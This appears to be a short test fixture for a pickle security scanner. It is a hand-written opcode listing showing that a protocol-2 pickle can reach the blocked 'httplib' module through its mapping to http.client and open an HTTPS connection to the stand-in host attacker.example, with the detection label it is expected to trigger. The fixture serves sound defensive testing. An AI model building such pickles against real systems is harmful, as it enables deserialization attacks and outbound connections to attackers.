#! technique 69 Python 2 httplib.HTTPSConnection (mapped to http.client): network
#! expect PICKLE-GLOBAL-IMPORT HTTPSConnection
# httplib was blocked, http.client was not; protocol 2 maps one to the other.
PROTO 2
GLOBAL "httplib" "HTTPSConnection"
BINUNICODE "attacker.example"
BININT2 443
TUPLE2
REDUCE
STOP
